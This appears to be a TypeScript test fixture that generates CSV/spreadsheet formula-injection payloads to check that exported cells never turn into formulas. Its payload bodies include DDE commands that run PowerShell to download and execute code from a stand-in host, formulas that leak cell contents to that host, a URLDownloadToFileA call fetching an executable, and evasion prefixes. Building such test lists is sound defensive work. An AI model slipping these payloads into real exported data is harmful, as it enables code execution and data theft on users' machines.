/** What a spreadsheet could take for the beginning of a formula, in full width too. */
const TRIGGERS = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];

/** What may hide a beginning from a careless guard. */
const DISGUISES = ['', ' ', '\t', '\r', '\n', '\u00a0', '\u3000', '\ufeff', "'", "''", '"', '|', '%0A', ';', ','];

/** From the OWASP page on CSV injection and from published attacks. */
const BODIES = [
  '1+1',
  "cmd|' /C calc'!A0",
  "cmd|'/C powershell IEX(wget 0r.example.invalid/p)'!A0",
  'HYPERLINK("http://example.invalid/?leak="&A1&A2,"点击")',
  'WEBSERVICE("http://example.invalid/?"&A1)',
  'IMPORTXML(CONCAT("http://example.invalid?v=",A1),"//a")',
  'DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
  "SUM(1+9)*cmd|' /C calc'!A0",
  "rundll32|'URL.dll,OpenURL calc.exe'!A",
  'INDIRECT("A1")',
  'EXEC("calc.exe")',
  'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://example.invalid","C:\\a.exe",0,0)',
];

/** Texts that must never become a formula, whatever they are written into. */
export const FORMULA_PAYLOADS: readonly string[] = [
  ...new Set(
    DISGUISES.flatMap((disguise) => TRIGGERS.flatMap((trigger) => BODIES.map((body) => disguise + trigger + body))),
  ),
];
